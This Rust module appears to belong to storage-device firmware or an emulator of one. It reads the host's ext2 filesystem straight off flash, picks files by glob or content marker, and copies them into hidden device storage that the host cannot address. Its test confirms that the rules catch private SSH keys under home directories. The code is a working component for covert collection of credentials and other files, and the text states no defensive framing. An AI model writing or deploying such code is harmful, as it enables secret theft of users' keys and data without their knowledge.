//! On-device data mining: walk the filesystem straight off flash, pick files
//! by path glob or content marker, and copy them into a private store the
//! host cannot address.

use globset::{Glob, GlobSet, GlobSetBuilder};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use thiserror::Error;

use crate::backend::BlockStore;
use crate::diskfs::{parse_partitions, Ext2Fs, FileKind, StoreView, LINUX_FS_GUID};

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum MineRule {
    Glob(String),
    /// Files containing this byte string (given as text).
    Content(String),
}

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum MineError {
    #[error("bad glob {0}: {1}")]
    Glob(String, String),
    #[error("filesystem: {0}")]
    Fs(String),
    #[error("private store quota exhausted ({used} of {quota} bytes)")]
    QuotaExceeded { used: u64, quota: u64 },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Quarantined {
    pub id: u32,
    pub path: String,
    pub bytes: u64,
    pub sha256: String,
    #[serde(skip)]
    pub content: Vec<u8>,
}

/// Device-private storage, separate from the host-visible LBA space.
#[derive(Debug, Clone)]
pub struct PrivateStore {
    quota: u64,
    used: u64,
    items: Vec<Quarantined>,
}

impl PrivateStore {
    pub fn new(quota: u64) -> Self {
        Self {
            quota,
            used: 0,
            items: Vec::new(),
        }
    }

    pub fn used(&self) -> u64 {
        self.used
    }

    pub fn quota(&self) -> u64 {
        self.quota
    }

    pub fn items(&self) -> &[Quarantined] {
        &self.items
    }

    pub fn contains_path(&self, path: &str) -> bool {
        self.items.iter().any(|i| i.path == path)
    }

    pub fn put(&mut self, path: &str, content: Vec<u8>) -> Result<&Quarantined, MineError> {
        let bytes = content.len() as u64;
        if self.used + bytes > self.quota {
            return Err(MineError::QuotaExceeded {
                used: self.used,
                quota: self.quota,
            });
        }
        self.used += bytes;
        let id = self.items.len() as u32;
        self.items.push(Quarantined {
            id,
            path: path.to_string(),
            bytes,
            sha256: hex::encode(Sha256::digest(&content)),
            content,
        });
        Ok(self.items.last().expect("just pushed"))
    }
}

fn globset(rules: &[MineRule]) -> Result<GlobSet, MineError> {
    let mut b = GlobSetBuilder::new();
    for r in rules {
        if let MineRule::Glob(g) = r {
            b.add(Glob::new(g).map_err(|e| MineError::Glob(g.clone(), e.to_string()))?);
        }
    }
    b.build().map_err(|e| MineError::Glob(String::new(), e.to_string()))
}

/// Regular files matching any rule, with contents, read from the device's own
/// flash (first Linux partition). Paths are absolute.
pub fn select_files(store: &BlockStore, rules: &[MineRule]) -> Result<Vec<(String, Vec<u8>)>, MineError> {
    let set = globset(rules)?;
    let markers: Vec<&[u8]> = rules
        .iter()
        .filter_map(|r| match r {
            MineRule::Content(c) => Some(c.as_bytes()),
            MineRule::Glob(_) => None,
        })
        .collect();
    let mut dev = StoreView(store);
    let parts = parse_partitions(&mut dev).map_err(|e| MineError::Fs(e.to_string()))?;
    let part = parts
        .iter()
        .find(|p| p.type_tag == LINUX_FS_GUID || p.type_tag == "0x83")
        .or(parts.first())
        .ok_or_else(|| MineError::Fs("no partition".into()))?;
    let fs = Ext2Fs::open(&mut dev, part).map_err(|e| MineError::Fs(e.to_string()))?;
    let mut out = Vec::new();
    for (path, inode) in fs.walk(&mut dev).map_err(|e| MineError::Fs(e.to_string()))? {
        if inode.kind() != FileKind::Regular {
            continue;
        }
        let by_path = set.is_match(&path);
        if !by_path && markers.is_empty() {
            continue;
        }
        let data = fs
            .read_inode_data(&mut dev, &inode)
            .map_err(|e| MineError::Fs(e.to_string()))?;
        let by_content = markers
            .iter()
            .any(|m| memchr::memmem::find(&data, m).is_some());
        if by_path || by_content {
            out.push((path, data));
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quota_is_enforced() {
        let mut s = PrivateStore::new(10);
        s.put("/a", vec![0; 6]).unwrap();
        assert!(matches!(s.put("/b", vec![0; 6]), Err(MineError::QuotaExceeded { used: 6, quota: 10 })));
        s.put("/c", vec![0; 4]).unwrap();
        assert_eq!(s.used(), 10);
        assert_eq!(s.items()[1].sha256.len(), 64);
    }

    #[test]
    fn glob_crosses_directories() {
        let set = globset(&[MineRule::Glob("*/.ssh/*".into())]).unwrap();
        assert!(set.is_match("/home/alice/.ssh/id_ed25519"));
        assert!(!set.is_match("/etc/ssh/sshd_config"));
    }
}
